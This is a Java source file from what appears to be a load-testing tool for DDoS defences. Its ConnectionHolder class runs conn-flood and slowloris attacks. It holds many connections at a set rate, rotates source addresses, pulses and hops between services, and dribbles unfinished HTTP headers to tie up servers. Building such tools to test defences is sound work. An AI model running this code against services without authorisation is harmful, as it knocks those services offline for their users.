package org.vmshield.load.engine;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoop;
import io.netty.util.ReferenceCountUtil;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ScheduledFuture;
import java.util.concurrent.TimeUnit;
import org.vmshield.load.LoadClock;
import org.vmshield.load.TrafficClass;
import org.vmshield.load.schedule.ConnectionStream;
import org.vmshield.load.stats.StatsRecorder;

/**
 * Runs a connection-holding attack (conn-flood, slowloris): every tick it compares the connections
 * held with the number wanted now (zero outside the window or in a pulse's "off" phase, none to a
 * service the stream has hopped away from), opens new ones at the connect rate, closes the extra.
 * Reopens connections the server closes, within a bound of ten opens per wanted connection (a
 * connection the holder closes itself, at a pulse's "off" or a hop, gives its open back).
 */
final class ConnectionHolder {
    private static final long TICK_NANOS = TimeUnit.MILLISECONDS.toNanos(20);
    private static final int OPENS_PER_CONNECTION = 10;

    private final ConnectionStream stream;
    private final EventLoop loop;
    private final LoadClock clock;
    private final StatsRecorder stats;
    private final long runStartNanos;
    private final Map<String, InetSocketAddress> remotes;
    private final Map<String, Boolean> bindable;
    private final Bootstrap bootstrap;
    private final Set<Held> held = new LinkedHashSet<>(); // O(1) removal with thousands held
    private long opensLeft;
    private int pending;
    private long opens;
    private double tokens = 1;
    private long lastTickNanos;
    private ScheduledFuture<?> nextTick;
    private boolean stopped;

    /** One held connection. */
    private static final class Held {
        final String service;
        final Channel channel;
        boolean closedByUs;
        ScheduledFuture<?> dribble;

        Held(String service, Channel channel) {
            this.service = service;
            this.channel = channel;
        }
    }

    ConnectionHolder(ConnectionStream stream, EventLoop loop, Class<? extends Channel> channelClass, LoadClock clock,
                     StatsRecorder stats, long runStartNanos, Map<String, InetSocketAddress> remotes,
                     Map<String, Boolean> bindable, long connectTimeoutMillis) {
        this.stream = stream;
        this.loop = loop;
        this.clock = clock;
        this.stats = stats;
        this.runStartNanos = runStartNanos;
        this.remotes = remotes;
        this.bindable = bindable;
        this.opensLeft = (long) stream.connections() * OPENS_PER_CONNECTION;
        this.bootstrap = new Bootstrap()
                .group(loop)
                .channel(channelClass)
                .option(ChannelOption.CONNECT_TIMEOUT_MILLIS, (int) connectTimeoutMillis)
                .handler(new ChannelInitializer<Channel>() {
                    @Override
                    protected void initChannel(Channel ch) {
                        ch.pipeline().addLast(new Discard());
                    }
                });
    }

    /** Starts ticking; call on the event loop. */
    void start() {
        lastTickNanos = clock.nanoTime();
        tick();
    }

    /** Closes every connection and stops; call on the event loop. */
    void stop() {
        stopped = true;
        if (nextTick != null) {
            nextTick.cancel(false);
        }
        for (Held h : new ArrayList<>(held)) {
            close(h);
        }
    }

    private void tick() {
        long now = clock.nanoTime();
        long inRun = now - runStartNanos;
        long offset = inRun - stream.startNanos();
        boolean on = !stopped && offset >= 0 && inRun < stream.endNanos() && stream.gate().isOn(offset);
        String service = on ? stream.services().serviceAt(offset) : null;
        for (Held h : new ArrayList<>(held)) {
            if (!h.service.equals(service)) {
                close(h);
            }
        }
        int wanted = on ? stream.connections() : 0;
        while (held.size() > wanted) {
            close(held.iterator().next());
        }
        if (on) {
            double rate = stream.connectRateRps();
            tokens = Math.min(tokens + rate * (now - lastTickNanos) / 1e9, Math.max(1, rate * 0.05));
            while (held.size() + pending < wanted && tokens >= 1 && opensLeft > 0) {
                tokens--;
                open(service);
            }
        } else {
            tokens = 1;
        }
        lastTickNanos = now;
        if (inRun >= stream.endNanos() || stopped) {
            stop();
            return;
        }
        nextTick = loop.schedule(this::tick, TICK_NANOS, TimeUnit.NANOSECONDS);
    }

    private void open(String service) {
        int source = (int) (opens % stream.sources().count());
        long id = opens++;
        opensLeft--;
        pending++;
        InetSocketAddress remote = remotes.get(service);
        ChannelFuture f = bindable.get(service)
                ? bootstrap.connect(remote, new InetSocketAddress(stream.sources().address(source), 0))
                : bootstrap.connect(remote);
        f.addListener(done -> {
            pending--;
            if (!done.isSuccess()) {
                stats.connectionFailed(service, TrafficClass.ATTACK);
                return;
            }
            Held h = new Held(service, f.channel());
            if (stopped) {
                h.closedByUs = true;
                h.channel.close();
                return;
            }
            held.add(h);
            stats.connectionOpened(service, TrafficClass.ATTACK);
            h.channel.closeFuture().addListener(c -> {
                held.remove(h);
                if (h.dribble != null) {
                    h.dribble.cancel(false);
                }
                stats.connectionClosed(service, TrafficClass.ATTACK, !h.closedByUs);
            });
            if (stream.kind() == ConnectionStream.Kind.SLOW_HEADERS) {
                startDribble(h, id, remote);
            }
        });
    }

    /** Sends a request line and one header, then one header line per interval, never the final blank line. */
    private void startDribble(Held h, long id, InetSocketAddress remote) {
        String head = "GET /?slow=" + id + " HTTP/1.1\r\nHost: " + remote.getHostString() + ":" + remote.getPort()
                + "\r\nUser-Agent: vmshield-load/slowloris\r\n";
        h.channel.writeAndFlush(Unpooled.copiedBuffer(head, StandardCharsets.US_ASCII));
        long[] line = {0};
        long interval = stream.headerIntervalNanos();
        h.dribble = loop.scheduleAtFixedRate(() -> {
            if (h.channel.isActive()) {
                String header = "X-Slow-" + (line[0]++) + ": " + id + "\r\n";
                h.channel.writeAndFlush(Unpooled.copiedBuffer(header, StandardCharsets.US_ASCII));
            }
        }, interval, interval, TimeUnit.NANOSECONDS);
    }

    private void close(Held h) {
        if (!h.closedByUs) {
            opensLeft++; // our own close: the bound is on reopens after the server closed
        }
        h.closedByUs = true;
        held.remove(h);
        h.channel.close();
    }

    /** Discards whatever the server sends (a 408, say). */
    private static final class Discard extends ChannelInboundHandlerAdapter {
        @Override
        public void channelRead(ChannelHandlerContext ctx, Object msg) {
            ReferenceCountUtil.release(msg);
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close(); // a reset: the closeFuture listener records it
        }
    }
}
